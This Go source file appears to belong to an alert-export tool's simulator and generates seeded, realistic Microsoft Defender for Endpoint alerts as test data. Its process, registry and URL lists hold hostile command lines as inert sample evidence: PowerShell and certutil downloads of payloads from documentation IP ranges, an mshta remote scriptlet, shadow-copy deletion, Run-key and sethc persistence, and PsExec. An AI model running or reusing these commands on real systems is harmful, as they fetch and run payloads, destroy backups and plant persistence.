package endpoint

import (
	"encoding/base64"
	"fmt"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"sync"
	"time"

	"github.com/alertexport/alertexport/internal/sim/simapi"
)

// Seeded generation of realistic MDE alerts: the shape of the documented
// examples (alerts.md, get-alerts.md) with every documented enum value, the
// variable time precision of real answers, evidence of every entity type,
// and the text a client must not mangle (non-ASCII scripts, right-to-left
// text, emoji, a combining accent, quotes, <, >, &, command lines of tens
// of KiB).

// Generate describes the alerts Tenant.Generate creates.
type Generate struct {
	// From and To bound the alerts' lastUpdateTime, spread at random over
	// [From, To]. Both zero means the simulator's now; From == To gives
	// every alert that same lastUpdateTime. If only one is set, it is used
	// for both.
	From, To time.Time
	// VisibleAfter is the late-indexing delay: each alert becomes visible
	// to queries at its lastUpdateTime + VisibleAfter.
	VisibleAfter time.Duration
	// SameCreationTime gives every alert one alertCreationTime, at or before
	// From (their ids still differ).
	SameCreationTime bool
}

// Generate creates n new alerts with the tenant's seeded generator and
// returns their ids, in creation order. It panics if To is before From.
func (t *Tenant) Generate(n int, g Generate) []string {
	if n <= 0 {
		return nil
	}
	from, to := simapi.GenerateRange(g.From, g.To, t.srv.Now, Tick, "Generate")

	alerts := make([]Alert, n)
	t.mu.Lock()
	gen := t.generator()
	var shared *time.Time
	if g.SameCreationTime {
		c := from.Add(-time.Duration(gen.RNG.Int64N(int64(2 * time.Minute)))).Truncate(Tick)
		shared = &c
	}
	taken := make(map[string]bool, n)
	for i := range alerts {
		a := gen.alert(gen.lastUpdate(from, to), shared)
		for t.store.Alerts[a.ID] != nil || taken[a.ID] {
			a.ID = gen.reID(a.ID)
		}
		taken[a.ID] = true
		alerts[i] = a
	}
	t.mu.Unlock()

	// Rendering is the costly part; it needs no lock and no randomness.
	versions := make([]*Revision, n)
	workers := min(runtime.GOMAXPROCS(0), (n+255)/256)
	var wg sync.WaitGroup
	for w := range workers {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := w; i < n; i += workers {
				versions[i] = newEndpointVersion(&alerts[i], alerts[i].LastUpdateTime.Add(g.VisibleAfter))
			}
		}()
	}
	wg.Wait()

	ids := make([]string, n)
	t.mu.Lock()
	defer t.mu.Unlock()
	for i, v := range versions {
		ids[i] = alerts[i].ID
		t.store.Add(alerts[i].ID, v)
	}
	return ids
}

// UpdateRandom moves n distinct alerts, chosen by the seeded generator, one
// step along an analyst's lifecycle (see Update for the new version's
// lastUpdateTime and visibility): Unknown → New; New → InProgress (assigned,
// investigation running); InProgress → Resolved (resolvedTime,
// classification with a matching determination, final investigation
// state); a Resolved alert gets a comment, or is reopened now and then.
// Any step may add a comment. It returns the ids, fewer when the tenant has
// fewer than n alerts.
func (t *Tenant) UpdateRandom(n int, visibleAfter time.Duration) []string {
	t.mu.Lock()
	defer t.mu.Unlock()
	gen := t.generator()
	ids := t.store.PickRandom(gen.RNG, n)
	for _, id := range ids {
		if err := t.update(id, gen.lifecycleStep, visibleAfter); err != nil {
			panic(err) // the id is known and its versions decode
		}
	}
	return ids
}

// generator returns the tenant's generator. t.mu must be held.
func (t *Tenant) generator() *alertGen {
	return &alertGen{Draws: simapi.Draws{RNG: t.rng}, tenant: t.id, now: t.srv.Now, machines: &t.machines}
}

// alertGen draws alerts. Its rng is the tenant's, used under the tenant's
// lock.
type alertGen struct {
	simapi.Draws
	tenant   string
	now      func() time.Time
	machines *[]machine
}

type machine struct {
	id, dns string
	rbac    *string
}

// weighted picks list[i] with probability weights[i]/sum.
func (g *alertGen) weighted(list []string, weights []int) string {
	return list[g.WeightedIndex(weights...)]
}

func (g *alertGen) between(lo, hi time.Duration) time.Duration {
	if hi <= lo {
		return lo
	}
	return lo + time.Duration(g.RNG.Int64N(int64(hi-lo)))
}

// precise truncates t to the variable precision of MDE answers: whole
// seconds, 1, 2, 3 or 7 fractional digits (trailing zeros are trimmed on
// the wire, so 7-digit values sometimes show fewer).
func (g *alertGen) precise(t time.Time) time.Time {
	switch x := g.RNG.IntN(10); {
	case x < 2:
		return t.Truncate(time.Second)
	case x < 3:
		return t.Truncate(100 * time.Millisecond)
	case x < 4:
		return t.Truncate(10 * time.Millisecond)
	case x < 6:
		return t.Truncate(time.Millisecond)
	}
	return t.Truncate(Tick)
}

func (g *alertGen) lastUpdate(from, to time.Time) time.Time {
	if !to.After(from) {
		return from
	}
	t := from.Add(time.Duration(g.RNG.Int64N(int64(to.Sub(from)) + 1)))
	if p := g.precise(t); !p.Before(from) {
		return p
	}
	return t.Truncate(Tick) // from is on a tick, so this is >= from
}

// reID keeps the ticks of an id and draws a new number.
func (g *alertGen) reID(id string) string {
	i := strings.LastIndexByte(id, '_')
	return id[:i+1] + strconv.FormatInt(int64(int32(g.RNG.Uint32())), 10)
}

func (g *alertGen) machine() machine {
	ms := *g.machines
	if len(ms) < 150 && (len(ms) == 0 || g.Chance(0.3)) {
		host := g.Pick([]string{"desktop", "laptop", "win10", "win11", "srv", "dc", "sql", "fin-ws", "kiosk", "buildagent"}) + "-" + g.Hex(7)
		dom := g.Pick([]string{"contoso.local", "corp.contoso.com", "emea.fabrikam.com", "middleeast.corp.contoso.com", "lab.tailspin.internal"})
		m := machine{id: g.Hex(40), dns: host + "." + dom}
		if !g.Chance(0.15) {
			m.rbac = simapi.Ptr(g.Pick([]string{"A", "Workstations", "Servers - Tier 0", "Finance Laptops (EU)", "Entwicklung – München", "UnassignedGroup"}))
		}
		*g.machines = append(ms, m)
		return m
	}
	return ms[g.RNG.IntN(len(ms))]
}

// person is a user account of the simulated tenant.
type person struct {
	user, domain, upn, sid, aad string
}

var endpointPeople = []struct{ user, domain, upn string }{
	{"temp123", "DOMAIN", "temp123@contoso.com"},
	{"anna.schmidt", "CONTOSO", "anna.schmidt@contoso.com"},
	{"jürgen.müller", "CONTOSO", "juergen.mueller@contoso.de"},
	{"tanaka.hiroshi", "FABRIKAM", "tanaka.hiroshi@fabrikam.co.jp"},
	{"m.alrashid", "FABRIKAM", "m.alrashid@fabrikam.com"},
	{"svc_backup", "CONTOSO", "svc_backup@contoso.com"},
	{"administrator", "CONTOSO", "administrator@contoso.com"},
	{"ola.nordmann", "TAILSPIN", "ola.nordmann@tailspin.no"},
	{"system", "NT AUTHORITY", ""},
}

func (g *alertGen) person() person {
	p := endpointPeople[g.RNG.IntN(len(endpointPeople))]
	if p.user == "system" {
		return person{user: p.user, domain: p.domain, sid: "S-1-5-18"}
	}
	sid := fmt.Sprintf("S-1-5-21-%d-%d-%d-%d", 1e8+g.RNG.IntN(4e9), 1e8+g.RNG.IntN(4e9), 1e8+g.RNG.IntN(4e9), 1000+g.RNG.IntN(90000))
	return person{user: p.user, domain: p.domain, upn: p.upn, sid: sid, aad: g.GUID()}
}

var endpointAnalysts = []string{"secop123@contoso.com", "soc-analyst@contoso.com", "Automation", "j.mueller@contoso.de", "tier2.ir@fabrikam.com"}

// File names, some with the characters clients must keep intact.
var fileNames = []string{
	"suspicious.dll", "invoice_2024_0412.pdf.exe", "Rechnung_März_Überweisung.pdf.exe", "請求書_2024年4月.docm",
	"فاتورة_مستحقة.xlsm", "💸payroll_update🔥.js", "Re\u0301sume\u0301_final.lnk", "R&D_roadmap.docx",
	"update.ps1", "setup_x64.msi", "svch0st.exe", "mimikatz.exe", "beacon_x64.dll", "readme.hta",
}

// Threat is a malware family of the generator's vocabulary.
type Threat struct{ Family, Name, Category string }

var threats = []Threat{
	{"Meterpreter", "Trojan:Win32/Meterpreter.A!ad", "Malware"},
	{"Mimikatz", "HackTool:Win32/Mimikatz.D", "CredentialAccess"},
	{"Emotet", "Trojan:Win32/Emotet.RPA!MTB", "Malware"},
	{"Qakbot", "Trojan:Win32/Qakbot.PA!MTB", "Malware"},
	{"CobaltStrike", "Backdoor:Win64/CobaltStrike.NP!dha", "CommandAndControl"},
	{"LockBit", "Ransom:Win32/LockBit.AA!MTB", "Ransomware"},
	{"WannaCrypt", "Ransom:Win32/WannaCrypt.A!rsm", "Ransomware"},
	{"InstallCore", "PUA:Win32/InstallCore", "UnwantedSoftware"},
	{"Presenoker", "PUA:Win32/Presenoker", "UnwantedSoftware"},
	{"Wacatac", "Trojan:Win32/Wacatac.B!ml", "Malware"},
}

// endpointTitles are real MDE alert titles by category; {file} and
// {family} are filled in.
var endpointTitles = map[string][]string{
	"Collection":          {"Suspicious collection of clipboard data", "Screen capture activity observed", "Sensitive data staged in '{file}'"},
	"CommandAndControl":   {"Connection to a custom network indicator", "Suspicious connection to a Tor node", "'{family}' command and control communication"},
	"CredentialAccess":    {"Suspicious access to LSASS service", "'{family}' credential theft tool", "Possible theft of passwords and other sensitive web browser information"},
	"DefenseEvasion":      {"Suspicious process injection observed", "Attempt to turn off Microsoft Defender Antivirus protection", "Event log was cleared"},
	"Discovery":           {"Suspicious sequence of exploration activities", "Anomalous account lookups", "Suspicious LDAP query"},
	"Execution":           {"Low-reputation arbitrary code executed by signed executable", "Suspicious PowerShell command line", "A script with suspicious content was observed: '{file}'"},
	"Exfiltration":        {"Sensitive file '{file}' uploaded to a cloud storage service", "Unusual volume of data copied to removable media"},
	"Exploit":             {"Suspicious behavior by Microsoft Word was observed", "Possible exploitation of CVE-2021-40444"},
	"InitialAccess":       {"Suspicious URL clicked", "Suspicious file '{file}' dropped and launched from an Office macro"},
	"LateralMovement":     {"Possible lateral movement using PsExec", "Suspicious remote activity", "Suspicious WMI process creation"},
	"Malware":             {"An active '{family}' malware was detected", "'{family}' malware was detected", "'{family}' malware was prevented"},
	"Persistence":         {"Anomaly detected in ASEP registry", "Suspicious scheduled task '{file}'", "New local admin added using Net commands"},
	"PrivilegeEscalation": {"Suspicious token elevation", "Possible exploitation of a privilege escalation vulnerability"},
	"Ransomware":          {"Ransomware behavior detected in the file system", "'{family}' ransomware was detected", "File backups were deleted"},
	"SuspiciousActivity":  {"Suspicious file '{file}' observed", "Unexpected behavior observed by a process run with no command line arguments", "Suspicious activity by a user"},
	"UnwantedSoftware":    {"'{family}' unwanted software was detected", "Potentially unwanted application '{file}' was installed"},
	"Impact":              {"Suspicious shadow copy deletion", "Service 'WinDefend' stopped for defense evasion", "Mass file encryption <ransom note> & extension change"},
}

// endpointCustomTitles are tenant-written custom detection names, in the
// languages and characters analysts use.
var endpointCustomTitles = []string{
	"Zugriff auf Gehaltsdaten außerhalb der Geschäftszeiten",
	"機密ファイルの大量コピーを検出",
	"نشاط تسجيل دخول غير عادي",
	"Ransomware canary file touched 🐤🔥",
	"Cafe\u0301 Wi-Fi <untrusted> & VPN off",
	`Rule "Finance exfil watch" matched`,
}

var descriptions = []string{
	"Binaries signed by Microsoft can be used to run low-reputation arbitrary code. This technique hides the execution of malicious code within a trusted process. As a result, the trusted process might exhibit suspicious behaviors, such as opening a listening port or connecting to a command-and-control (C&C) server.",
	`A process ran a suspicious command line: cmd.exe /c "whoami /all > %TEMP%\out.txt & type %TEMP%\out.txt". Such commands are used to discover the privileges of the current user.`,
	"The file '{file}' was observed on {host}. It contains <script> elements & obfuscated strings commonly used by '{family}'.",
	"Verdächtige Aktivität auf dem Gerät {host} festgestellt: Die Datei „{file}“ wurde aus einem E-Mail-Anhang geöffnet. Prüfen Sie die Zeitachse des Geräts.",
	"デバイス {host} で不審なプロセスが検出されました。ファイル「{file}」を確認してください。",
	"تم اكتشاف نشاط مشبوه على الجهاز {host}. يرجى مراجعة الملف \"{file}\" والتحقق من المستخدم.",
	"Alert raised by a custom detection rule 🚨 owned by SOC-Team 🛡️ on {host}; the rule's query matched '{file}'.",
	"A known '{family}' component was detected and remediated on {host}. Threats like this can give attackers persistent access; review the device's timeline for related activity.",
}

var mitre = []string{"T1059", "T1059.001", "T1059.003", "T1055", "T1055.012", "T1003", "T1003.001",
	"T1218", "T1218.011", "T1064", "T1085", "T1220", "T1566.001", "T1204.002", "T1547.001", "T1053.005",
	"T1021.002", "T1570", "T1486", "T1490", "T1070.001", "T1562.001", "T1027", "T1105", "T1071.001",
	"T1041", "T1567.002", "T1087.002", "T1069.002", "T1082", "T1113", "T1115", "T1068", "T1134"}

// alert draws one alert whose lastUpdateTime is lastUpdate.
func (g *alertGen) alert(lastUpdate time.Time, sharedCreation *time.Time) Alert {
	status := g.weighted(endpointStatuses, []int{5, 45, 20, 30})
	category := g.Pick(endpointCategories)
	source := g.weighted(endpointDetectionSources, []int{40, 20, 5, 8, 7, 8, 6, 6})
	if category == "Malware" || category == "Ransomware" || category == "UnwantedSoftware" {
		if g.Chance(0.6) {
			source = "WindowsDefenderAv"
		}
	}
	threat := threats[g.RNG.IntN(len(threats))]
	hasThreat := source == "WindowsDefenderAv" || category == "Malware" || category == "Ransomware" || category == "UnwantedSoftware"

	var age time.Duration
	switch status {
	case "Unknown":
		age = g.between(time.Second, 5*time.Minute)
	case "New":
		age = g.between(500*time.Millisecond, 15*time.Minute)
	case "InProgress":
		age = g.between(10*time.Minute, 48*time.Hour)
	default:
		age = g.between(30*time.Minute, 14*24*time.Hour)
	}
	creation := lastUpdate.Add(-age).Truncate(Tick)
	if g.Chance(0.2) {
		creation = creation.Truncate(time.Millisecond)
	}
	if sharedCreation != nil {
		creation = *sharedCreation
	}
	lastEvent := creation.Add(-g.between(time.Second, 30*time.Minute)).Truncate(Tick)
	firstEvent := lastEvent
	if g.Chance(0.7) {
		firstEvent = lastEvent.Add(-g.between(time.Millisecond, 2*time.Hour)).Truncate(Tick)
	}

	m := g.machine()
	file := g.Pick(fileNames)
	title := g.Pick(endpointTitles[category])
	if source == "CustomDetection" && g.Chance(0.7) {
		title = g.Pick(endpointCustomTitles)
	}
	fill := strings.NewReplacer("{file}", file, "{family}", threat.Family, "{host}", m.dns)

	// id: "da" + .NET ticks + "_" + int32. In the documented example the
	// ticks are 0.56 s after alertCreationTime, so they are drawn in the
	// second that follows it: a client must not read times from ids.
	ticks := DotNetTicks(creation) + g.RNG.Int64N(10_000_000)
	a := Alert{
		ID:                endpointAlertID(ticks, int32(g.RNG.Uint32())),
		Severity:          g.weighted(endpointSeverities, []int{4, 20, 26, 30, 20}),
		Status:            status,
		DetectionSource:   source,
		Category:          category,
		Title:             fill.Replace(title),
		Description:       fill.Replace(g.Pick(descriptions)),
		AlertCreationTime: &creation,
		FirstEventTime:    &firstEvent,
		LastEventTime:     &lastEvent,
		LastUpdateTime:    &lastUpdate,
		MachineID:         m.id,
		ComputerDNSName:   m.dns,
		RBACGroupName:     simapi.ClonePtr(m.rbac),
		AADTenantID:       g.tenant,
		MitreTechniques:   []string{},
		Comments:          []Comment{},
	}
	if g.Chance(0.9) {
		a.IncidentID = simapi.Ptr(int64(1_000_000 + g.RNG.IntN(200_000)))
	}
	if g.Chance(0.55) {
		a.InvestigationID = simapi.Ptr(int64(100_000 + g.RNG.IntN(900_000)))
	}
	switch {
	case status == "InProgress" || status == "Resolved":
		if g.Chance(0.85) {
			a.AssignedTo = simapi.Ptr(g.Pick(endpointAnalysts))
		}
	case status == "New" && g.Chance(0.1):
		a.AssignedTo = simapi.Ptr("Automation")
	}
	classified := map[string]float64{"Unknown": 0.05, "New": 0.05, "InProgress": 0.2, "Resolved": 0.85}[status]
	if g.Chance(classified) {
		g.classify(&a)
	}
	if g.Chance(0.9) {
		a.InvestigationState = simapi.Ptr(g.Pick(endpointInvestigationStates))
	}
	if g.Chance(0.9) {
		a.DetectorID = simapi.Ptr(simapi.NameGUID(title))
	}
	if hasThreat && g.Chance(0.9) {
		a.ThreatFamilyName = simapi.Ptr(threat.Family)
		a.ThreatName = simapi.Ptr(threat.Name)
	}
	if status == "Resolved" {
		r := lastUpdate.Add(-g.between(0, 3*time.Second)).Truncate(Tick)
		if r.Before(creation) {
			r = creation
		}
		a.ResolvedTime = &r
	}
	if !g.Chance(0.15) {
		for range 1 + g.RNG.IntN(5) {
			if t := g.Pick(mitre); !slices.Contains(a.MitreTechniques, t) {
				a.MitreTechniques = append(a.MitreTechniques, t)
			}
		}
	}
	user := g.person()
	if g.Chance(0.7) {
		a.RelatedUser = &User{UserName: user.user, DomainName: user.domain}
	}
	for range g.WeightedIndex(70, 18, 8, 4) {
		a.Comments = append(a.Comments, g.comment(creation, lastUpdate))
	}
	n := g.WeightedIndex(10, 20, 18, 12, 12, 10, 8, 6, 4)
	a.Evidence = make([]Evidence, 0, n)
	for range n {
		a.Evidence = append(a.Evidence, g.evidence(creation, lastUpdate, firstEvent, user, file))
	}
	return a
}

// classify sets a classification and, usually, a determination valid for
// it (older alerts carry none).
func (g *alertGen) classify(a *Alert) {
	c := g.Pick(endpointClassifications)
	a.Classification = simapi.Ptr(c)
	a.Determination = nil
	if g.Chance(0.9) {
		a.Determination = simapi.Ptr(g.Pick(endpointDeterminations[c]))
	}
}

var endpointCommentTexts = []string{
	"test comment for docs",
	"Isolated the device; waiting for the user's callback.",
	"Benutzer bestätigt: Anhang wurde geöffnet. Passwort zurückgesetzt.",
	"誤検知の可能性あり。確認中です。",
	`Hash matches "known good" build <v2.3> & signed by vendor.`,
	"تم عزل الجهاز ✅",
}

func (g *alertGen) comment(from, to time.Time) Comment {
	at := from
	if to.After(from) {
		at = from.Add(time.Duration(g.RNG.Int64N(int64(to.Sub(from))))).Truncate(Tick)
	}
	return Comment{Comment: g.Pick(endpointCommentTexts), CreatedBy: g.Pick(endpointAnalysts[:2]), CreatedTime: at}
}

// Process is a process of the generator's vocabulary.
type Process struct{ Name, Folder, Cmd string }

var processes = []Process{
	{"rundll32.exe", `C:\Windows\SysWOW64`, `rundll32.exe  c:\temp\suspicious.dll,RepeatAfterMe`},
	{"powershell.exe", `C:\Windows\System32\WindowsPowerShell\v1.0`, `powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')"`},
	{"cmd.exe", `C:\Windows\System32`, `cmd.exe /c "whoami /all & net group \"Domain Admins\" /domain > C:\Users\Public\o.txt"`},
	{"WMIC.exe", `C:\Windows\System32\wbem`, `wmic.exe process call create "C:\Windows\Temp\svc.exe"`},
	{"vssadmin.exe", `C:\Windows\System32`, `vssadmin.exe delete shadows /all /quiet`},
	{"reg.exe", `C:\Windows\System32`, `reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /t REG_SZ /d "C:\Users\Public\upd.exe" /f`},
	{"mshta.exe", `C:\Windows\System32`, `mshta.exe "javascript:a=GetObject('script:https://bücher.example/x.sct').Exec();close();"`},
	{"WINWORD.EXE", `C:\Program Files\Microsoft Office\root\Office16`, `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\anna.schmidt\Downloads\請求書_2024年4月.docm" /o ""`},
	{"certutil.exe", `C:\Windows\System32`, `certutil.exe -urlcache -split -f http://203.0.113.9/p.bin C:\Windows\Temp\p.bin`},
	{"PsExec64.exe", `C:\Users\svc_backup\Downloads`, `PsExec64.exe \\srv-fin-02 -accepteula -s cmd.exe`},
}

var endpointParents = []struct{ name, folder string }{
	{"rundll32.exe", `C:\Windows\System32`}, {"explorer.exe", `C:\Windows`}, {"cmd.exe", `C:\Windows\System32`},
	{"WINWORD.EXE", `C:\Program Files\Microsoft Office\root\Office16`}, {"services.exe", `C:\Windows\System32`},
	{"WmiPrvSE.exe", `C:\Windows\System32\wbem`}, {"svchost.exe", `C:\Windows\System32`},
}

var folders = []string{`c:\temp`, `C:\Users\anna.schmidt\AppData\Local\Temp`, `C:\Users\jürgen.müller\Downloads`,
	`C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp`, `\\fileserver01\share$\Finance`,
	`C:\Users\tanaka.hiroshi\デスクトップ`, `C:\Program Files (x86)\Vendor App`, `C:\Windows\Temp`}

// RegistryValue is a registry value of the generator's vocabulary.
type RegistryValue struct{ Hive, Key, Type, Value string }

var registryValues = []RegistryValue{
	{"HKEY_LOCAL_MACHINE", `SOFTWARE\Microsoft\Windows\CurrentVersion\Run`, "String", `C:\Users\Public\upd.exe`},
	{"HKEY_CURRENT_USER", `Software\Microsoft\Windows\CurrentVersion\RunOnce`, "ExpandString", `%APPDATA%\svc\host.exe -k netsvcs`},
	{"HKEY_LOCAL_MACHINE", `SYSTEM\CurrentControlSet\Services\WinDefend`, "Dword", "4"},
	{"HKEY_LOCAL_MACHINE", `SOFTWARE\Policies\Microsoft\Windows Defender`, "Dword", "1"},
	{"HKEY_USERS", `S-1-5-21-1004336348-1177238915-682003330-512\Software\Classes\ms-settings\Shell\Open\command`, "String", `cmd.exe /c start C:\Windows\Temp\e.exe`},
	{"HKEY_LOCAL_MACHINE", `SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe`, "String", `C:\Windows\System32\cmd.exe`},
	{"HKEY_LOCAL_MACHINE", `SYSTEM\CurrentControlSet\Control\Lsa`, "MultiString", "msv1_0\x00wdigest"},
	{"HKEY_CURRENT_USER", `Software\Classes\CLSID\{b5f8350b-0548-48b1-a6ee-88bd00b4a5e7}\InprocServer32`, "Binary", "4d5a90000300000004000000ffff0000"},
	{"HKEY_LOCAL_MACHINE", `SOFTWARE\Contoso\Agent`, "Qword", "133520640000000000"},
}

var urls = []string{
	"http://198.51.100.23:8080/payload.ps1",
	"https://login.micros0ft-secure.com/owa/?user=anna.schmidt&ref=mail",
	"https://bücher.example/rechnung?id=4711&lang=de",
	"https://docs.google.com/uc?export=download&id=1AbCdEfGh",
	"http://[2001:db8::7]/c2/beacon?sid=42",
	"https://例え.jp/ログイン",
}

// Group is a device group of the generator's vocabulary.
type Group struct{ Name, RID string }

var deviceGroups = []Group{
	{"Domain Admins", "512"}, {"Enterprise Admins", "519"}, {"Remote Desktop Users", "1104"}, {"Finanzbuchhaltung – Lesezugriff", "2231"},
}

func (g *alertGen) ip() string {
	switch g.RNG.IntN(4) {
	case 0:
		return fmt.Sprintf("10.%d.%d.%d", g.RNG.IntN(256), g.RNG.IntN(256), 1+g.RNG.IntN(254))
	case 1:
		return fmt.Sprintf("2001:db8:%x:%x::%x", g.RNG.IntN(0x10000), g.RNG.IntN(0x10000), 1+g.RNG.IntN(0xffff))
	case 2:
		return fmt.Sprintf("fe80::%x:%x:%x:%x", g.RNG.IntN(0x10000), g.RNG.IntN(0x10000), g.RNG.IntN(0x10000), g.RNG.IntN(0x10000))
	}
	return fmt.Sprintf("%d.%d.%d.%d", 1+g.RNG.IntN(223), g.RNG.IntN(256), g.RNG.IntN(256), 1+g.RNG.IntN(254))
}

// pid is a Windows process id (a multiple of 4).
func (g *alertGen) pid() *int64 { return simapi.Ptr(int64(4 * (1 + g.RNG.IntN(16000)))) }

func (g *alertGen) detection() *string {
	if g.Chance(0.25) {
		return nil
	}
	return simapi.Ptr(g.Pick(endpointDetectionStatuses))
}

// hugeCommandLine is a PowerShell -EncodedCommand line of 8 to 64 KiB: the
// base64 of a UTF-16LE script, as attackers and admin tools send them.
func (g *alertGen) hugeCommandLine() string {
	size := 8<<10 + g.RNG.IntN(56<<10)
	const prefix = "powershell.exe -NoProfile -NonInteractive -WindowStyle Hidden -EncodedCommand "
	raw := make([]byte, (size-len(prefix))*3/4)
	const script = "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAEAO1YbW/bNhD+nPwKQR8KG3UUy7HjdECAOq9N2yRO7Lw0SVHQFG0xlkSFpPyWZv99R73YTuus3YCtGDACi8TjveN5')); IEX ($s) # Grüße 🔑\n"
	for i := 0; i+1 < len(raw); i += 2 {
		raw[i] = script[(i/2)%len(script)]
		raw[i+1] = 0
	}
	return prefix + base64.StdEncoding.EncodeToString(raw)
}

// evidence draws one evidence item of a random entity type, every field
// present and null unless the type uses it.
func (g *alertGen) evidence(creation, lastUpdate, firstEvent time.Time, user person, file string) Evidence {
	at := creation.Add(g.between(0, 2*time.Second))
	if at.After(lastUpdate) {
		at = lastUpdate
	}
	at = g.precise(at)
	if at.Before(creation) {
		at = creation
	}
	e := Evidence{EntityType: g.Pick(endpointEntityTypes), EvidenceCreationTime: &at}
	switch e.EntityType {
	case "User":
		p := g.person()
		if g.Chance(0.5) {
			p = user
		}
		e.AccountName, e.DomainName, e.UserSid = simapi.Ptr(p.user), simapi.Ptr(p.domain), simapi.Ptr(p.sid)
		if p.aad != "" {
			e.AADUserID, e.UserPrincipalName = simapi.Ptr(p.aad), simapi.Ptr(p.upn)
		}
	case "Process":
		pr := processes[g.RNG.IntN(len(processes))]
		pa := endpointParents[g.RNG.IntN(len(endpointParents))]
		e.Sha1, e.Sha256 = simapi.Ptr(g.Hex(40)), simapi.Ptr(g.Hex(64))
		e.FileName, e.FilePath = simapi.Ptr(pr.Name), simapi.Ptr(pr.Folder)
		e.ProcessID, e.ParentProcessID = g.pid(), g.pid()
		cmd := pr.Cmd
		if g.Chance(0.015) {
			cmd = g.hugeCommandLine()
		}
		e.ProcessCommandLine = &cmd
		pct := firstEvent.Add(-g.between(time.Millisecond, time.Minute)).Truncate(Tick)
		ppct := pct.Add(-g.between(time.Millisecond, 6*time.Hour)).Truncate(Tick)
		e.ProcessCreationTime, e.ParentProcessCreationTime = &pct, &ppct
		e.ParentProcessFileName, e.ParentProcessFilePath = simapi.Ptr(pa.name), simapi.Ptr(pa.folder)
		e.DetectionStatus = g.detection()
	case "File":
		e.Sha1, e.Sha256 = simapi.Ptr(g.Hex(40)), simapi.Ptr(g.Hex(64))
		e.FileName, e.FilePath = simapi.Ptr(file), simapi.Ptr(g.Pick(folders))
		e.DetectionStatus = g.detection()
	case "Ip":
		e.IPAddress = simapi.Ptr(g.ip())
	case "Url":
		e.URL = simapi.Ptr(g.Pick(urls))
		if g.Chance(0.3) {
			e.DetectionStatus = simapi.Ptr("Blocked")
		}
	case "Registry":
		r := registryValues[g.RNG.IntN(len(registryValues))]
		e.RegistryKey = simapi.Ptr(r.Hive + `\` + r.Key)
		e.RegistryHive, e.RegistryValueType, e.RegistryValue = simapi.Ptr(r.Hive), simapi.Ptr(r.Type), simapi.Ptr(r.Value)
	case "MailBox":
		p := g.person()
		if p.upn != "" {
			e.AccountName, e.UserPrincipalName, e.AADUserID = simapi.Ptr(p.user), simapi.Ptr(p.upn), simapi.Ptr(p.aad)
		}
	case "SecurityGroup":
		grp := deviceGroups[g.RNG.IntN(len(deviceGroups))]
		e.AccountName, e.DomainName = simapi.Ptr(grp.Name), simapi.Ptr("CONTOSO")
		e.UserSid = simapi.Ptr("S-1-5-21-1004336348-1177238915-682003330-" + grp.RID)
		e.AADUserID = simapi.Ptr(simapi.NameGUID("group " + grp.Name))
	case "MailMessage", "MailCluster":
		// No evidence field of the MDE schema describes mail: every one
		// stays null, which clients must accept.
		if g.Chance(0.3) {
			e.DetectionStatus = simapi.Ptr(g.Pick([]string{"Detected", "Blocked"}))
		}
	}
	return e
}

// lifecycleStep is one analyst action on an alert (UpdateRandom).
func (g *alertGen) lifecycleStep(a *Alert) {
	now := g.now().UTC().Truncate(Tick)
	commented := false
	switch a.Status {
	case "Unknown":
		a.Status = "New"
	case "New":
		a.Status = "InProgress"
		a.AssignedTo = simapi.Ptr(g.Pick(endpointAnalysts))
		a.InvestigationState = simapi.Ptr(g.Pick([]string{"Running", "PendingApproval", "Queued", "PendingResource"}))
	case "InProgress":
		a.Status = "Resolved"
		r := now
		if a.AlertCreationTime != nil && r.Before(*a.AlertCreationTime) {
			r = *a.AlertCreationTime
		}
		a.ResolvedTime = &r
		if a.Classification == nil || g.Chance(0.3) {
			g.classify(a)
		}
		a.InvestigationState = simapi.Ptr(g.Pick([]string{"SuccessfullyRemediated", "Benign", "PartiallyRemediated", "TerminatedByUser", "TerminatedBySystem", "Failed", "PartiallyInvestigated"}))
	default: // Resolved (or anything else): reopened now and then, else commented
		if g.Chance(0.25) {
			a.Status = "InProgress"
			a.ResolvedTime = nil
			if a.AssignedTo == nil {
				a.AssignedTo = simapi.Ptr(g.Pick(endpointAnalysts))
			}
		} else {
			a.Comments = append(a.Comments, Comment{Comment: g.Pick(endpointCommentTexts), CreatedBy: g.Pick(endpointAnalysts[:2]), CreatedTime: now})
			commented = true
			if g.Chance(0.2) {
				g.classify(a)
			}
		}
	}
	if !commented && g.Chance(0.25) {
		a.Comments = append(a.Comments, Comment{Comment: g.Pick(endpointCommentTexts), CreatedBy: g.Pick(endpointAnalysts[:2]), CreatedTime: now})
	}
}

// The generator's vocabulary, for the Graph view of Endpoint alerts to draw
// from the same lists. Callers must not modify them.

// Descriptions are the generator's alert descriptions.
func Descriptions() []string { return descriptions }

// FileNames are the generator's file names.
func FileNames() []string { return fileNames }

// Folders are the generator's folders.
func Folders() []string { return folders }

// Groups are the generator's device groups.
func Groups() []Group { return deviceGroups }

// Mitre are the generator's MITRE technique IDs.
func Mitre() []string { return mitre }

// Processes are the generator's processes.
func Processes() []Process { return processes }

// Registry are the generator's registry values.
func Registry() []RegistryValue { return registryValues }

// Threats are the generator's threats.
func Threats() []Threat { return threats }

// URLs are the generator's URLs.
func URLs() []string { return urls }
